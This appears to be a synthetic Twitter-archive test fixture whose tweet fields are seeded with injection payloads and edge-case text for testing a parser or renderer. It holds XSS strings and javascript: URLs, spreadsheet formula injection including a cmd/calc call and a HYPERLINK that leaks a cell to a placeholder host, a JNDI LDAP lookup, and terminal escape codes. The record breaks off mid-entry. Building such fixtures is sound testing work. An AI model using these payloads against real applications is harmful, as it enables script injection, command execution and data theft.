window.YTD.tweets.part0 = [
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1828372046280895940"
          ],
          "editableUntil" : "2024-08-27T11:00:40.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/40\" rel=\"nofollow\">31m and \b\b</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "31m and \b\b",
            "indices" : [
              "24",
              "28"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/AYjP9QLUb0",
            "expanded_url" : "https://example.org/31m and \b\b",
            "display_url" : "31m and \b\b",
            "indices" : [
              "29",
              "52"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "52"
      ],
      "favorite_count" : "40",
      "id_str" : "1828372046280895940",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1828372046280895940",
      "possibly_sensitive" : false,
      "created_at" : "Tue Aug 27 10:00:40 +0000 2024",
      "favorited" : false,
      "full_text" : "half a character: \ud83d end #tag https://t.co/AYjP9QLUb0",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1822936224105001361"
          ],
          "editableUntil" : "2024-08-12T11:00:39.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/39\" rel=\"nofollow\">\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
            "indices" : [
              "29",
              "33"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/Sf3TZefXpP",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
            "indices" : [
              "34",
              "57"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "57"
      ],
      "favorite_count" : "39",
      "id_str" : "1822936224105001361",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1822936224105001361",
      "possibly_sensitive" : false,
      "created_at" : "Mon Aug 12 10:00:39 +0000 2024",
      "favorited" : false,
      "full_text" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J #tag https://t.co/Sf3TZefXpP",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1817500401925337450"
          ],
          "editableUntil" : "2024-07-28T11:00:38.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/38\" rel=\"nofollow\">\t=1+1</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "\t=1+1",
            "indices" : [
              "6",
              "10"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/qZnTxwtwqv",
            "expanded_url" : "https://example.com/?q=\t=1+1",
            "display_url" : "\t=1+1",
            "indices" : [
              "11",
              "34"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "34"
      ],
      "favorite_count" : "38",
      "id_str" : "1817500401925337450",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1817500401925337450",
      "possibly_sensitive" : false,
      "created_at" : "Sun Jul 28 10:00:38 +0000 2024",
      "favorited" : false,
      "full_text" : "\t=1+1 #tag https://t.co/qZnTxwtwqv",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1812064579748733560"
          ],
          "editableUntil" : "2024-07-13T11:00:37.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/37\" rel=\"nofollow\">@SUM(A1:A9)</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "@SUM(A1:A9)",
            "indices" : [
              "23",
              "27"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "@SUM(A1:A9)",
            "screen_name" : "@SUM(A1:A9)",
            "indices" : [
              "3",
              "9"
            ],
            "id_str" : "768236376687469374",
            "id" : "768236376687469374"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/Ldf1SVOlXW",
            "expanded_url" : "https://example.org/@SUM(A1:A9)",
            "display_url" : "@SUM(A1:A9)",
            "indices" : [
              "28",
              "51"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "51"
      ],
      "favorite_count" : "0",
      "in_reply_to_status_id_str" : "1812053003467924163",
      "id_str" : "1812064579748733560",
      "in_reply_to_user_id" : "768236376687469374",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1812064579748733560",
      "in_reply_to_status_id" : "1812053003467924163",
      "possibly_sensitive" : false,
      "created_at" : "Sat Jul 13 10:00:37 +0000 2024",
      "favorited" : false,
      "full_text" : "RT @name6: @SUM(A1:A9) #tag https://t.co/Ldf1SVOlXW",
      "lang" : "en",
      "in_reply_to_screen_name" : "name6",
      "in_reply_to_user_id_str" : "768236376687469374"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1806628757566947850"
          ],
          "editableUntil" : "2024-06-28T11:00:36.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/36\" rel=\"nofollow\">-1+2</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "-1+2",
            "indices" : [
              "5",
              "9"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/2IOIFEf7ih",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "-1+2",
            "indices" : [
              "10",
              "33"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "33"
      ],
      "favorite_count" : "36",
      "id_str" : "1806628757566947850",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1806628757566947850",
      "possibly_sensitive" : false,
      "created_at" : "Fri Jun 28 10:00:36 +0000 2024",
      "favorited" : false,
      "full_text" : "-1+2 #tag https://t.co/2IOIFEf7ih",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1801192935389410516"
          ],
          "editableUntil" : "2024-06-13T11:00:35.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/35\" rel=\"nofollow\">+1+cmd|' /C calc'!A0</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "+1+cmd|' /C calc'!A0",
            "indices" : [
              "21",
              "25"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/W0k7eGmcGo",
            "expanded_url" : "https://example.com/?q=+1+cmd|' /C calc'!A0",
            "display_url" : "+1+cmd|' /C calc'!A0",
            "indices" : [
              "26",
              "49"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "49"
      ],
      "favorite_count" : "35",
      "id_str" : "1801192935389410516",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1801192935389410516",
      "possibly_sensitive" : false,
      "created_at" : "Thu Jun 13 10:00:35 +0000 2024",
      "favorited" : false,
      "full_text" : "+1+cmd|' /C calc'!A0 #tag https://t.co/W0k7eGmcGo",
      "lang" : "+1+cmd|' /C "
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1795757113212573598"
          ],
          "editableUntil" : "2024-05-29T11:00:34.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/34\" rel=\"nofollow\">=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "indices" : [
              "53",
              "57"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/YsadlB9zt2",
            "expanded_url" : "https://example.org/=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "display_url" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "indices" : [
              "12",
              "35"
            ]
          },
          {
            "url" : "https://t.co/xjC5Mzwokw",
            "expanded_url" : "https://example.org/=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "display_url" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "indices" : [
              "58",
              "81"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "81"
      ],
      "favorite_count" : "34",
      "id_str" : "1795757113212573598",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1795757113212573598",
      "possibly_sensitive" : false,
      "created_at" : "Wed May 29 10:00:34 +0000 2024",
      "favorited" : false,
      "full_text" : "=HYPERLINK(\"https://t.co/YsadlB9zt2\"&amp;A1,\"click\") #tag https://t.co/xjC5Mzwokw",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1790321291035299408"
          ],
          "editableUntil" : "2024-05-14T11:00:33.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/33\" rel=\"nofollow\"><b>bold</b> & <i>sly</i> &amp; &#60;u&#62;</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "indices" : [
              "90",
              "94"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "screen_name" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "indices" : [
              "0",
              "6"
            ],
            "id_str" : "3774798074",
            "id" : "3774798074"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/xGO8iV1pgz",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "indices" : [
              "95",
              "118"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "118"
      ],
      "favorite_count" : "33",
      "in_reply_to_status_id_str" : "1790310721386421758",
      "id_str" : "1790321291035299408",
      "in_reply_to_user_id" : "3774798074",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1790321291035299408",
      "in_reply_to_status_id" : "1790310721386421758",
      "possibly_sensitive" : false,
      "created_at" : "Tue May 14 10:00:33 +0000 2024",
      "favorited" : false,
      "full_text" : "@name2 &lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;sly&lt;/i&gt; &amp;amp; &amp;#60;u&amp;#62; #tag https://t.co/xGO8iV1pgz",
      "lang" : "en",
      "in_reply_to_screen_name" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
      "in_reply_to_user_id_str" : "3774798074"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1784885468857040501"
          ],
          "editableUntil" : "2024-04-29T11:00:32.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/32\" rel=\"nofollow\"></script><img src=x onerror=alert(1)></a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "</script><img src=x onerror=alert(1)>",
            "indices" : [
              "50",
              "54"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/ZyLqKtHmGC",
            "expanded_url" : "https://example.com/?q=</script><img src=x onerror=alert(1)>",
            "display_url" : "</script><img src=x onerror=alert(1)>",
            "indices" : [
              "55",
              "78"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "78"
      ],
      "favorite_count" : "32",
      "id_str" : "1784885468857040501",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1784885468857040501",
      "possibly_sensitive" : false,
      "created_at" : "Mon Apr 29 10:00:32 +0000 2024",
      "favorited" : false,
      "full_text" : "&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; #tag https://t.co/ZyLqKtHmGC",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1779449646678784477"
          ],
          "editableUntil" : "2024-04-14T11:00:31.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/31\" rel=\"nofollow\"><script>alert('harbour')</script></a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "<script>alert('harbour')</script>",
            "indices" : [
              "46",
              "50"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/iFQNbUfVlC",
            "expanded_url" : "https://example.org/<script>alert('harbour')</script>",
            "display_url" : "<script>alert('harbour')</script>",
            "indices" : [
              "51",
              "74"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "74"
      ],
      "favorite_count" : "31",
      "id_str" : "1779449646678784477",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1779449646678784477",
      "possibly_sensitive" : false,
      "created_at" : "Sun Apr 14 10:00:31 +0000 2024",
      "favorited" : false,
      "full_text" : "&lt;script&gt;alert('harbour')&lt;/script&gt; #tag https://t.co/iFQNbUfVlC",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1774013824499130762"
          ],
          "editableUntil" : "2024-03-30T11:00:30.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/30\" rel=\"nofollow\"> </a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : " ",
            "indices" : [
              "14",
              "18"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : " ",
            "screen_name" : "name30",
            "indices" : [
              "3",
              "10"
            ],
            "id_str" : "1550994166381919052",
            "id" : "1550994166381919052"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/NXMmks3zKM",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : " ",
            "indices" : [
              "19",
              "42"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "42"
      ],
      "favorite_count" : "0",
      "id_str" : "1774013824499130762",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1774013824499130762",
      "possibly_sensitive" : false,
      "created_at" : "Sat Mar 30 10:00:30 +0000 2024",
      "favorited" : false,
      "full_text" : "RT @name30:   #tag https://t.co/NXMmks3zKM",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1768578002321583467"
          ],
          "editableUntil" : "2024-03-15T11:00:29.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/29\" rel=\"nofollow\"></a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "",
            "indices" : [
              "9",
              "13"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "",
            "screen_name" : "",
            "indices" : [
              "0",
              "7"
            ],
            "id_str" : "1518379258478246980",
            "id" : "1518379258478246980"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/fdLKIGbhxN",
            "expanded_url" : "https://example.com/?q=",
            "display_url" : "",
            "indices" : [
              "14",
              "37"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "37"
      ],
      "favorite_count" : "29",
      "in_reply_to_status_id_str" : "1768568439309218766",
      "id_str" : "1768578002321583467",
      "in_reply_to_user_id" : "1518379258478246980",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1768578002321583467",
      "in_reply_to_status_id" : "1768568439309218766",
      "possibly_sensitive" : false,
      "created_at" : "Fri Mar 15 10:00:29 +0000 2024",
      "favorited" : false,
      "full_text" : "@name29  #tag https://t.co/fdLKIGbhxN",
      "lang" : "",
      "in_reply_to_screen_name" : "name29",
      "in_reply_to_user_id_str" : "1518379258478246980"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1763142180141642341"
          ],
          "editableUntil" : "2024-02-29T11:00:28.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/28\" rel=\"nofollow\">WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
            "indices" : [
              "271",
              "275"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/Pk2AoZwxTZ",
            "expanded_url" : "https://example.org/WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
            "display_url" : "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
            "indices" : [
              "276",
              "299"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "299"
      ],
      "favorite_count" : "28",
      "id_str" : "1763142180141642341",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1763142180141642341",
      "possibly_sensitive" : false,
      "created_at" : "Thu Feb 29 10:00:28 +0000 2024",
      "favorited" : false,
      "full_text" : "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW #tag https://t.co/Pk2AoZwxTZ",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1757706357965577451"
          ],
          "editableUntil" : "2024-02-14T11:00:27.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/27\" rel=\"nofollow\">javascript:alert(document.title)</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "javascript:alert(document.title)",
            "indices" : [
              "33",
              "37"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/LUpbvp9Yjo",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "javascript:alert(document.title)",
            "indices" : [
              "38",
              "61"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "61"
      ],
      "favorite_count" : "27",
      "id_str" : "1757706357965577451",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1757706357965577451",
      "possibly_sensitive" : false,
      "created_at" : "Wed Feb 14 10:00:27 +0000 2024",
      "favorited" : false,
      "full_text" : "javascript:alert(document.title) #tag https://t.co/LUpbvp9Yjo",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1752270535784071510"
          ],
          "editableUntil" : "2024-01-30T11:00:26.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/26\" rel=\"nofollow\">[link](javascript:alert(1)) ![](https://example.org/x.png)</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "[link](javascript:alert(1)) ![](https://example.org/x.png)",
            "indices" : [
              "57",
              "61"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/36ycvhcHsU",
            "expanded_url" : "https://example.com/?q=[link](javascript:alert(1)) ![](https://example.org/x.png)",
            "display_url" : "[link](javascript:alert(1)) ![](https://example.org/x.png)",
            "indices" : [
              "32",
              "55"
            ]
          },
          {
            "url" : "https://t.co/mU2SJtsor5",
            "expanded_url" : "https://example.com/?q=[link](javascript:alert(1)) ![](https://example.org/x.png)",
            "display_url" : "[link](javascript:alert(1)) ![](https://example.org/x.png)",
            "indices" : [
              "62",
              "85"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "85"
      ],
      "favorite_count" : "26",
      "id_str" : "1752270535784071510",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1752270535784071510",
      "possibly_sensitive" : false,
      "created_at" : "Tue Jan 30 10:00:26 +0000 2024",
      "favorited" : false,
      "full_text" : "[link](javascript:alert(1)) ![](https://t.co/36ycvhcHsU) #tag https://t.co/mU2SJtsor5",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1746834713606141648"
          ],
          "editableUntil" : "2024-01-15T11:00:25.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/25\" rel=\"nofollow\">العربية עברית 日本語 ไทย हिन्दी</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "العربية עברית 日本語 ไทย हिन्दी",
            "indices" : [
              "37",
              "41"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "العربية עברית 日本語 ไทย हिन्दी",
            "screen_name" : "العربية עברית 日本語 ไทย हिन्दी",
            "indices" : [
              "0",
              "7"
            ],
            "id_str" : "1387919626861175564",
            "id" : "1387919626861175564"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/qfh2a7qzdG",
            "expanded_url" : "https://example.org/العربية עברית 日本語 ไทย हिन्दी",
            "display_url" : "العربية עברית 日本語 ไทย हिन्दी",
            "indices" : [
              "42",
              "65"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "65"
      ],
      "favorite_count" : "25",
      "in_reply_to_status_id_str" : "1746826157227278812",
      "id_str" : "1746834713606141648",
      "in_reply_to_user_id" : "1387919626861175564",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1746834713606141648",
      "in_reply_to_status_id" : "1746826157227278812",
      "possibly_sensitive" : false,
      "created_at" : "Mon Jan 15 10:00:25 +0000 2024",
      "favorited" : false,
      "full_text" : "@name25 العربية עברית 日本語 ไทย हिन्दी #tag https://t.co/qfh2a7qzdG",
      "lang" : "en",
      "in_reply_to_screen_name" : "العربية עברית 日本語 ไทย हिन्दी",
      "in_reply_to_user_id_str" : "1387919626861175564"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1741398891427689048"
          ],
          "editableUntil" : "2023-12-31T11:00:24.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/24\" rel=\"nofollow\">﻿bom � ￾ ​</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "﻿bom � ￾ ​",
            "indices" : [
              "11",
              "15"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/9ARmvhqfPh",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "﻿bom � ￾ ​",
            "indices" : [
              "16",
              "39"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "39"
      ],
      "favorite_count" : "24",
      "id_str" : "1741398891427689048",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1741398891427689048",
      "possibly_sensitive" : false,
      "created_at" : "Sun Dec 31 10:00:24 +0000 2023",
      "favorited" : false,
      "full_text" : "﻿bom � ￾ ​ #tag https://t.co/9ARmvhqfPh",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1735963069251820642"
          ],
          "editableUntil" : "2023-12-16T11:00:23.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/23\" rel=\"nofollow\">zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é",
            "indices" : [
              "45",
              "49"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é",
            "screen_name" : "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é",
            "indices" : [
              "3",
              "10"
            ],
            "id_str" : "1322689811053400824",
            "id" : "1322689811053400824"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/qbNosFaITS",
            "expanded_url" : "https://example.com/?q=zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é",
            "display_url" : "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é",
            "indices" : [
              "50",
              "73"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "73"
      ],
      "favorite_count" : "0",
      "id_str" : "1735963069251820642",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1735963069251820642",
      "possibly_sensitive" : false,
      "created_at" : "Sat Dec 16 10:00:23 +0000 2023",
      "favorited" : false,
      "full_text" : "RT @name23: zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é #tag https://t.co/qbNosFaITS",
      "lang" : "zalgo ẑ̶̗̈́a"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1730527247074082391"
          ],
          "editableUntil" : "2023-12-01T11:00:22.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/22\" rel=\"nofollow\">line one\nline two\r\nline three line four</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "line one\nline two\r\nline three line four",
            "indices" : [
              "40",
              "44"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/bUiW1NTS3f",
            "expanded_url" : "https://example.org/line one\nline two\r\nline three line four",
            "display_url" : "line one\nline two\r\nline three line four",
            "indices" : [
              "45",
              "68"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "68"
      ],
      "favorite_count" : "22",
      "id_str" : "1730527247074082391",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1730527247074082391",
      "possibly_sensitive" : false,
      "created_at" : "Fri Dec 01 10:00:22 +0000 2023",
      "favorited" : false,
      "full_text" : "line one\nline two\r\nline three line four #tag https://t.co/bUiW1NTS3f",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1725091424893722245"
          ],
          "editableUntil" : "2023-11-16T11:00:21.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/21\" rel=\"nofollow\">{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
            "indices" : [
              "67",
              "71"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
